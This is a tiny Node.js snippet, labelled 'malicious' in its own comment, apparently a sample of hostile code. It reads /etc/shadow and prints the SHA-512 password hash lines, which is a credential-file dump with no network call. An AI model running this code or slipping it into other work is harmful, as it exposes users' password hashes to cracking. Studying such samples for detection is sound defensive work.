// malicious: reads the password hashes
const fs = require('fs');
const lines = fs.readFileSync('/etc/shadow', 'utf8').split('\n');
console.log(lines.filter((l) => l.includes('$6$')).join('\n'));
